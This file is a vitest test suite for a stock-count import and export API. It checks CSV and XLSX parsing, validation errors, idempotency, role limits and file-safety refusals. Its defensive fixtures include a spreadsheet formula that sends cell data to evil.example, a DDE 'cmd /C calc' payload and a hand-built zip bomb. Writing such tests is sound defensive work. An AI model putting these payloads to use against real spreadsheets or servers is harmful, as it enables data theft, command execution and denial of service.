import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import zlib from 'node:zlib';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '../api/auth/permissions.ts';
import { createHarness, dayFrom, type Harness } from './harness.ts';
import { ledgerViolations } from './invariants.ts';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
let h: Harness;
let tmp: string;

beforeAll(async () => {
  h = await createHarness();
  tmp = await mkdtemp(path.join(os.tmpdir(), 'stockwire-import-'));
  await h.fixtures.location('MAIN');
  await h.fixtures.location('SHOP');
  await h.fixtures.product('IMP-A');
  await h.fixtures.product('IMP-B');
  await h.fixtures.product('IMP-C');
  await h.fixtures.product('IMP-BUNDLE', { components: [{ sku: 'IMP-A', qty: 2 }] });
  await h.fixtures.product('IMP-LOT', { lot_tracked: true });
  await h.fixtures.receive('IMP-A', 'MAIN', 10);
  await h.fixtures.receive('IMP-LOT', 'MAIN', 8, { lot_code: 'L1', expires_on: dayFrom(h.clock, 30) });
  await h.fixtures.receive('IMP-LOT', 'MAIN', 4, { lot_code: 'L2', expires_on: dayFrom(h.clock, 90) });
}, 120_000);

afterAll(async () => {
  expect(await ledgerViolations(h.db)).toEqual([]);
  await rm(tmp, { recursive: true, force: true });
  await h.close();
});

interface UploadOptions {
  role?: Role;
  contentType?: string;
  query?: string;
  /** send as multipart/form-data with these extra fields */
  multipart?: Record<string, string> | true;
  filename?: string;
  headers?: Record<string, string>;
}

/** POSTs a file to /v1/imports (raw body by default, or multipart) and parses the JSON answer. */
async function upload(file: string | Uint8Array, options: UploadOptions = {}) {
  const bytes = new Uint8Array(typeof file === 'string' ? Buffer.from(file, 'utf8') : file);
  const headers: Record<string, string> = { authorization: `Bearer ${h.tokens[options.role ?? 'manager']}`, ...options.headers };
  let body: BodyInit;
  if (options.multipart) {
    const form = new FormData();
    form.set('file', new Blob([bytes]), options.filename ?? 'count.csv');
    if (options.multipart !== true) for (const [k, v] of Object.entries(options.multipart)) form.set(k, v);
    body = form;
  } else {
    headers['content-type'] = options.contentType ?? 'text/csv';
    body = bytes;
  }
  const res = await h.app.request(`/v1/imports${options.query ?? ''}`, { method: 'POST', headers, body });
  const text = await res.text();
  return { status: res.status, headers: res.headers, body: text ? JSON.parse(text) : undefined };
}

async function onHand(sku: string, location = 'MAIN'): Promise<number | undefined> {
  const { rows } = await h.pool.query('SELECT on_hand FROM stock_levels WHERE sku = $1 AND location = $2', [sku, location]);
  return rows[0]?.on_hand;
}

async function counts() {
  const { rows } = await h.pool.query(`SELECT (SELECT count(*)::int FROM stock_movements) AS movements, (SELECT count(*)::int FROM audit_log) AS audits`);
  return rows[0] as { movements: number; audits: number };
}

/** A minimal zip written by hand, so a test can put anything in the directory (sizes that lie, macros). */
function zipOf(entries: { name: string; data: Buffer; method?: 0 | 8; declaredSize?: number; rawSize?: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const method = e.method ?? 8;
    const stored = e.data; // already deflated for method 8
    const name = Buffer.from(e.name);
    const size = e.declaredSize ?? e.rawSize ?? e.data.length;
    const crc = e.rawSize === undefined && method === 0 ? zlib.crc32(e.data) : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(stored.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(stored.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, stored);
    centrals.push(central, name);
    offset += local.length + name.length + stored.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const WORKBOOK_XML = Buffer.from('<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>');

/** deflateRaw of `mb` MB of zeros, fed 1 MB at a time (the zeros never sit in memory at once). */
async function deflatedZeros(mb: number): Promise<Buffer> {
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let i = 0; i < mb; i++) deflate.write(zeros);
  deflate.end();
  await done;
  return Buffer.concat(out);
}

async function xlsxOf(rows: unknown[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Count');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe('a 10,000-row stock count', () => {
  it('applies atomically as import ledger rows, one audit row, in a few seconds', async () => {
    // 5,000 products × 2 locations in two statements (through the API it would take minutes)
    await h.pool.query(`INSERT INTO products (sku, name, category, kind)
                        SELECT 'BULK-' || lpad(i::text, 5, '0'), 'Bulk item ' || i, 'sheets', 'simple' FROM generate_series(1, 5000) i`);
    await h.pool.query(`INSERT INTO stock_levels (sku, location)
                        SELECT p.sku, l.code FROM products p CROSS JOIN (VALUES ('MAIN'), ('SHOP')) AS l(code) WHERE p.sku LIKE 'BULK-%'`);
    // some stock already there (through the ledger, so the invariants hold): the count lowers it for these
    await h.pool.query(`INSERT INTO stock_movements (sku, location, delta_on_hand, delta_reserved, reason, actor)
                        SELECT sku, 'MAIN', 50, 0, 'receipt', 'test' FROM products WHERE sku LIKE 'BULK-0%' ORDER BY sku`);
    const expected = new Map<string, number>();
    const lines = ['SKU,Location,On_Hand,Note'];
    for (let i = 1; i <= 5000; i++) {
      const sku = `BULK-${String(i).padStart(5, '0')}`;
      for (const location of ['MAIN', 'SHOP']) {
        const counted = (i * (location === 'MAIN' ? 7 : 3)) % 97;
        expected.set(`${sku}@${location}`, counted);
        lines.push(`${sku},${location},${counted},${i % 10 === 0 ? '"shelf 3, top"' : ''}`);
      }
    }
    const { rows: before } = await h.pool.query(`SELECT sku || '@' || location AS key, on_hand FROM stock_levels WHERE sku LIKE 'BULK-%'`);
    const current = new Map(before.map((r) => [r.key as string, r.on_hand as number]));
    const changed = [...expected].filter(([key, n]) => current.get(key) !== n).length;
    const audits = (await counts()).audits;

    const started = performance.now();
    const res = await upload(lines.join('\r\n') + '\r\n', { multipart: true });
    const ms = performance.now() - started;
    console.log(`10,000-row CSV import: ${Math.round(ms)} ms (${changed} ledger rows)`);
    expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(201);
    expect(res.body).toMatchObject({ dry_run: false, format: 'csv', rows: 10_000, applied: changed, unchanged: 10_000 - changed, errors: [] });
    expect(ms).toBeLessThan(10_000);

    const { rows: after } = await h.pool.query(`SELECT sku || '@' || location AS key, on_hand FROM stock_levels WHERE sku LIKE 'BULK-%'`);
    expect(after).toHaveLength(10_000);
    const mismatched = after.filter((r) => expected.get(r.key) !== r.on_hand);
    expect(mismatched).toEqual([]);
    const { rows: ledger } = await h.pool.query(`SELECT count(*)::int AS n, count(DISTINCT actor)::int AS actors, min(actor) AS actor, count(note)::int AS notes
                                                   FROM stock_movements WHERE reason = 'import' AND ref = $1`, [res.body.import_id]);
    expect(ledger[0]).toMatchObject({ n: changed, actors: 1, actor: 'test-manager' });
    expect(ledger[0].notes).toBeGreaterThan(0);
    const { rows: audit } = await h.pool.query(`SELECT action, after FROM audit_log WHERE entity = 'import' AND entity_id = $1`, [res.body.import_id]);
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ action: 'stock.import', after: { rows: 10_000, applied: changed, format: 'csv' } });
    expect((await counts()).audits).toBe(audits + 1);
    expect(await ledgerViolations(h.db)).toEqual([]);
  }, 60_000);
});

describe('row errors', () => {
  it('reports exactly the bad rows with their row numbers as in the file, and applies nothing', async () => {
    const before = await counts();
    const file = [
      'sku,location,counted', // row 1
      'IMP-A,MAIN,4',
      'NO-SUCH-SKU,MAIN,3', // row 3: unknown sku
      'IMP-B,MAIN,2',
      'IMP-C,MAIN,ten', // row 5: text in counted
      '',
      'IMP-B,SHOP,1',
      'IMP-C,SHOP,-5', // row 8: negative (the blank line 6 still counts as a line)
    ].join('\n');
    const res = await upload(file);
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('import_invalid');
    const errors = res.body.error.details.errors;
    expect(errors.map((e: any) => [e.row, e.column, e.code])).toEqual([
      [3, 'sku', 'unknown_sku'],
      [5, 'counted', 'invalid_value'],
      [8, 'counted', 'invalid_value'],
    ]);
    expect(errors[2].message).toBe('counted must be a whole number ≥ 0, got "-5"');
    expect(res.body.error.details).toMatchObject({ error_count: 3, truncated: false });
    expect(await counts()).toEqual(before);
    expect(await onHand('IMP-A')).toBe(10);
  });

  it('checks catalog rules: bundles, unknown locations, lots, duplicates, range, and what is reserved', async () => {
    await h.fixtures.product('IMP-RES');
    await h.fixtures.receive('IMP-RES', 'MAIN', 6);
    await h.fixtures.order([{ sku: 'IMP-RES', qty: 4 }]);
    const before = await counts();
    const file = [
      '\uFEFFSku,LOCATION,Counted,Lot_Code,Note', // BOM and any letter case
      'IMP-BUNDLE,MAIN,1,,',
      'IMP-A,NOWHERE,1,,',
      'IMP-LOT,MAIN,3,,',
      'IMP-LOT,MAIN,3,NOPE,',
      'IMP-A,MAIN,1,L1,',
      'IMP-B,MAIN,2,,',
      'IMP-B,MAIN,3,,',
      'IMP-C,MAIN,1000001,,',
      'IMP-RES,MAIN,3,,', // 4 reserved
      'IMP-LOT,MAIN,2,L1,',
      'imp-c,MAIN,1,,',
      'IMP-C,MAIN,1,,,extra', // one field too many
    ].join('\r\n');
    const res = await upload(file);
    expect(res.status).toBe(422);
    expect(res.body.error.details.errors.map((e: any) => [e.row, e.code])).toEqual([
      [2, 'bundle_has_no_stock'],
      [3, 'unknown_location'],
      [4, 'lot_required'],
      [5, 'unknown_lot'],
      [6, 'not_lot_tracked'],
      [8, 'duplicate_row'],
      [9, 'invalid_value'],
      [10, 'below_reserved'],
      [12, 'invalid_value'],
      [13, 'column_count'],
    ]);
    expect(await counts()).toEqual(before);
  });

  it('refuses a CSV cell that a spreadsheet would run as a formula, and keeps a negative count a number error', async () => {
    const res = await upload([
      'sku,location,counted,note',
      'IMP-A,MAIN,4,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
      '@SUM(1),MAIN,4,',
      'IMP-B,MAIN,-1,',
    ].join('\n'));
    expect(res.status).toBe(422);
    expect(res.body.error.details.errors.map((e: any) => [e.row, e.column, e.code])).toEqual([
      [2, 'note', 'formula_injection'],
      [3, 'sku', 'formula_injection'],
      [4, 'counted', 'invalid_value'],
    ]);
  });

  it('names missing header columns on row 1', async () => {
    const res = await upload('sku,qty\nIMP-A,1\n');
    expect(res.status).toBe(422);
    expect(res.body.error.details.errors.map((e: any) => [e.row, e.column, e.code])).toEqual([
      [1, 'location', 'missing_column'],
      [1, 'counted', 'missing_column'],
    ]);
  });
});

describe('dry run, idempotency and lots', () => {
  it('dry_run (query or form field) reports what would change and applies nothing', async () => {
    const before = await counts();
    const file = 'sku,location,counted\nIMP-A,MAIN,7\nIMP-B,MAIN,0\n';
    for (const options of [{ query: '?dry_run=true' }, { multipart: { dry_run: 'true' } }] as UploadOptions[]) {
      const res = await upload(file, options);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body).toMatchObject({ dry_run: true, rows: 2, applied: 1, unchanged: 1, errors: [] });
    }
    expect(await counts()).toEqual(before);
    expect(await onHand('IMP-A')).toBe(10);
    const bad = await upload('sku,location,counted\nIMP-A,MAIN,x\n', { query: '?dry_run=1' });
    expect(bad.status).toBe(422);
    expect(bad.body.error.details.errors[0].row).toBe(2);
  });

  it('a retried import with the same Idempotency-Key returns the first answer and applies once', async () => {
    const file = 'sku,location,counted\nIMP-C,SHOP,5\n';
    const first = await upload(file, { headers: { 'idempotency-key': 'import-retry-1' } });
    expect(first.status).toBe(201);
    const again = await upload(file, { headers: { 'idempotency-key': 'import-retry-1' } });
    expect(again.status).toBe(201);
    expect(again.headers.get('idempotent-replayed')).toBe('true');
    expect(again.body.import_id).toBe(first.body.import_id);
    const { rows } = await h.pool.query(`SELECT count(*)::int AS n FROM stock_movements WHERE sku = 'IMP-C' AND reason = 'import'`);
    expect(rows[0].n).toBe(1);
    const other = await upload('sku,location,counted\nIMP-C,SHOP,6\n', { headers: { 'idempotency-key': 'import-retry-1' } });
    expect(other.status).toBe(409);
  });

  it('counts lots of lot-tracked products against the lot', async () => {
    const res = await upload('sku,location,lot_code,counted\nIMP-LOT,MAIN,L1,5\nIMP-LOT,MAIN,L2,4\n');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ applied: 1, unchanged: 1 });
    const { rows } = await h.pool.query(`SELECT lot_code, on_hand FROM lots WHERE sku = 'IMP-LOT' ORDER BY lot_code`);
    expect(rows).toEqual([{ lot_code: 'L1', on_hand: 5 }, { lot_code: 'L2', on_hand: 4 }]);
    expect(await onHand('IMP-LOT')).toBe(9);
  });
});

describe('XLSX', () => {
  it('imports the first worksheet of a workbook', async () => {
    const file = await xlsxOf([
      ['SKU', 'Location', 'Counted', 'Note'],
      ['IMP-A', 'SHOP', 12, 'from the shop'],
      [],
      ['IMP-B', 'SHOP', 3, null],
    ]);
    const res = await upload(file, { multipart: true, filename: 'count.xlsx' });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ format: 'xlsx', rows: 2, applied: 2 });
    expect(await onHand('IMP-A', 'SHOP')).toBe(12);
    expect(await onHand('IMP-B', 'SHOP')).toBe(3);
    const raw = await upload(await xlsxOf([['sku', 'location', 'on_hand'], ['IMP-B', 'SHOP', 4]]), { contentType: XLSX_TYPE });
    expect(raw.status).toBe(201);
    expect(await onHand('IMP-B', 'SHOP')).toBe(4);
  });

  it('refuses a formula cell, naming its row, and applies nothing', async () => {
    const before = await counts();
    const file = await xlsxOf([
      ['sku', 'location', 'counted'],
      ['IMP-A', 'MAIN', 1],
      ['IMP-B', 'MAIN', { formula: 'A2+1', result: 2 }],
      [{ formula: 'CONCAT("IMP-","C")', result: 'IMP-C' }, 'MAIN', 1],
    ]);
    const res = await upload(file, { multipart: true, filename: 'count.xlsx' });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('import_invalid');
    expect(res.body.error.details.errors).toEqual([
      { row: 3, column: 'counted', code: 'formula_cell', message: 'counted: formula cells are not accepted; paste the value instead' },
      { row: 4, column: 'sku', code: 'formula_cell', message: 'sku: formula cells are not accepted; paste the value instead' },
    ]);
    expect(await counts()).toEqual(before);
  });

  it('refuses a zip bomb from its directory (100 MB of zeros in a ~100 KB file)', async () => {
    const zeros = await deflatedZeros(100);
    expect(zeros.length).toBeLessThan(200_000);
    const bomb = zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>'), method: 0 },
      { name: 'xl/workbook.xml', data: WORKBOOK_XML, method: 0 },
      { name: 'xl/worksheets/sheet1.xml', data: zeros, rawSize: 100 * 1024 * 1024 },
    ]);
    const res = await upload(bomb, { multipart: true, filename: 'bomb.xlsx' });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('zip_bomb');
  });

  it('refuses an entry that inflates beyond the size its header declares', async () => {
    const liar = zipOf([
      { name: 'xl/workbook.xml', data: WORKBOOK_XML, method: 0 },
      { name: 'xl/worksheets/sheet1.xml', data: await deflatedZeros(5), declaredSize: 1000 },
    ]);
    const res = await upload(liar, { contentType: XLSX_TYPE });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('zip_bomb');
  });

  it('refuses too many zip entries', async () => {
    const many = zipOf([{ name: 'xl/workbook.xml', data: WORKBOOK_XML, method: 0 },
      ...Array.from({ length: 1001 }, (_, i) => ({ name: `xl/media/x${i}.bin`, data: Buffer.from('x'), method: 0 as const }))]);
    const res = await upload(many, { contentType: XLSX_TYPE });
    expect(res.status).toBe(422);
    expect(res.body.error.code).toBe('zip_bomb');
  });

  it('refuses a macro workbook (vbaProject.bin or macroEnabled content types)', async () => {
    const withVba = zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>'), method: 0 },
      { name: 'xl/workbook.xml', data: WORKBOOK_XML, method: 0 },
      { name: 'xl/vbaProject.bin', data: randomBytes(64), method: 0 },
    ]);
    const vba = await upload(withVba, { multipart: true, filename: 'count.xlsm' });
    expect(vba.status).toBe(422);
    expect(vba.body.error.code).toBe('macro_file');
    const declared = zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'), method: 0 },
      { name: 'xl/workbook.xml', data: WORKBOOK_XML, method: 0 },
    ]);
    const ct = await upload(declared, { contentType: XLSX_TYPE });
    expect(ct.status).toBe(422);
    expect(ct.body.error.code).toBe('macro_file');
  });
});

describe('refused files and callers', () => {
  it('refuses a file over 10 MB (413 file_too_large) and over 50,000 rows (413 too_many_rows)', async () => {
    const big = Buffer.alloc(10 * 1024 * 1024 + 1, 'a');
    for (const options of [{}, { multipart: true }] as UploadOptions[]) {
      const res = await upload(big, options);
      expect(res.status).toBe(413);
      expect(res.body.error.code).toBe('file_too_large');
    }
    const rows = ['sku,location,counted', ...Array.from({ length: 50_001 }, () => 'IMP-A,MAIN,1')].join('\n');
    const many = await upload(rows);
    expect(many.status).toBe(413);
    expect(many.body.error.code).toBe('too_many_rows');
  });

  it('refuses PNG, PDF, legacy XLS and random bytes by content (415 unsupported_file), and JSON bodies (415)', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(200)]);
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n');
    const xls = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(500)]);
    const noise = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00]), randomBytes(1000)]);
    for (const [name, bytes] of Object.entries({ png, pdf, xls, noise })) {
      const res = await upload(bytes, { multipart: true, filename: 'count.csv' });
      expect(res.status, name).toBe(415);
      expect(res.body.error.code, name).toBe('unsupported_file');
    }
    const json = await h.call('POST', '/v1/imports', { role: 'admin', body: {} });
    expect(json.status).toBe(415);
    expect(json.body.error.code).toBe('unsupported_media_type');
  });

  it('allows imports to admins and managers only (403 for clerk and viewer)', async () => {
    for (const role of ['clerk', 'viewer', 'order-system', 'sheet-sync'] as Role[]) {
      const res = await upload('sku,location,counted\nIMP-A,MAIN,1\n', { role });
      expect(res.status, role).toBe(403);
      expect(res.body.error).toMatchObject({ code: 'forbidden', details: { action: 'stock:import' } });
    }
    expect(await onHand('IMP-A')).toBe(10);
  });
});

describe('stock export', () => {
  async function exportCsv(query = '', role: Role = 'viewer') {
    const res = await h.app.request(`/v1/exports/stock.csv${query}`, { headers: { authorization: `Bearer ${h.tokens[role]}` } });
    return { status: res.status, headers: res.headers, text: await res.text() };
  }

  it('streams every stock row as RFC 4180 CSV with formula-looking text neutralised', async () => {
    await h.ok(201, 'POST', '/v1/products', { body: { sku: 'EXP-EVIL', name: '=cmd|\' /C calc\'!A0', category: 'sheets' } });
    await h.ok(201, 'POST', '/v1/products', { body: { sku: 'EXP-QUOTE', name: 'Sheet, "Queen"\nwhite', category: 'linens', reorder_point: 5 } });
    await h.ok(201, 'POST', '/v1/products', { body: { sku: 'EXP-PLUS', name: '+1-555 @home', category: 'sheets' } });
    for (const sku of ['EXP-EVIL', 'EXP-QUOTE', 'EXP-PLUS']) await h.fixtures.receive(sku, 'SHOP', 2);

    const res = await exportCsv('?location=SHOP');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="stock-SHOP-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = res.text.split('\r\n');
    expect(lines[0]).toBe('sku,name,category,location,on_hand,reserved,available,reorder_point,nearest_expiry,updated_at');
    expect(res.text).toContain(`EXP-EVIL,'=cmd|' /C calc'!A0,sheets,SHOP,2,0,2,0,,`);
    expect(res.text).toContain(`EXP-QUOTE,"Sheet, ""Queen""\nwhite",linens,SHOP,2,0,2,5,,`);
    expect(res.text).toContain(`EXP-PLUS,'+1-555 @home,sheets,SHOP,2,0,2,0,,`);

    const records: Record<string, string>[] = parseCsv(res.text, { columns: true });
    expect(records.every((r) => r.location === 'SHOP')).toBe(true);
    expect(records.find((r) => r.sku === 'EXP-QUOTE')!.name).toBe('Sheet, "Queen"\nwhite');
    // no field a spreadsheet would run as a formula
    expect(records.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('exports every stock row of all locations exactly once, with the nearest lot expiry', async () => {
    const res = await exportCsv('', 'clerk');
    expect(res.status).toBe(200);
    const records: Record<string, string>[] = parseCsv(res.text, { columns: true });
    expect(records.length).toBeGreaterThan(10_000); // the bulk rows page through
    expect(new Set(records.map((r) => `${r.sku}@${r.location}`)).size).toBe(records.length);
    expect(records.find((r) => r.sku === 'IMP-LOT' && r.location === 'MAIN')).toMatchObject({ on_hand: '9', nearest_expiry: dayFrom(h.clock, 30) });
    const { rows } = await h.pool.query('SELECT count(*)::int AS n FROM stock_levels');
    expect(records).toHaveLength(rows[0].n);
  });

  it('answers 404 for an unknown location and 403 for roles without stock:export', async () => {
    expect((await exportCsv('?location=NOWHERE')).status).toBe(404);
    for (const role of ['order-system', 'sheet-sync'] as Role[]) expect((await exportCsv('', role)).status, role).toBe(403);
  });
});

describe('npm run import', () => {
  const run = promisify(execFile);
  const tsx = path.resolve('node_modules/.bin/tsx');

  async function cli(args: string[]) {
    try {
      const { stdout, stderr } = await run(tsx, ['scripts/import.ts', ...args], { env: { ...process.env, DATABASE_URL: h.url }, timeout: 60_000 });
      return { code: 0, stdout, stderr };
    } catch (err) {
      const e = err as { code?: number; stdout: string; stderr: string };
      return { code: e.code ?? -1, stdout: e.stdout, stderr: e.stderr };
    }
  }

  it('dry-runs a valid file (exit 0, summary, nothing written) and lists row errors of a bad one (exit 1)', async () => {
    const good = path.join(tmp, 'good.csv');
    await writeFile(good, 'sku,counted\nIMP-A,3\nIMP-B,0\n');
    const before = await counts();
    const ok = await cli([good, '--dry-run', '--location', 'MAIN']);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toMatch(/: 2 rows, would change 1, 1 unchanged — dry run, nothing written/);
    expect(await counts()).toEqual(before);

    const bad = path.join(tmp, 'bad.csv');
    await writeFile(bad, 'sku,location,counted\nIMP-A,MAIN,3\nNOPE,MAIN,1\nIMP-B,MAIN,-2\n');
    const refused = await cli([bad, '--dry-run']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('import_invalid');
    expect(refused.stderr).toMatch(/row 3 \[sku\]: no such product: NOPE \(unknown_sku\)/);
    expect(refused.stderr).toMatch(/row 4 \[counted\]: counted must be a whole number ≥ 0/);
    expect(await counts()).toEqual(before);
  }, 120_000);
});
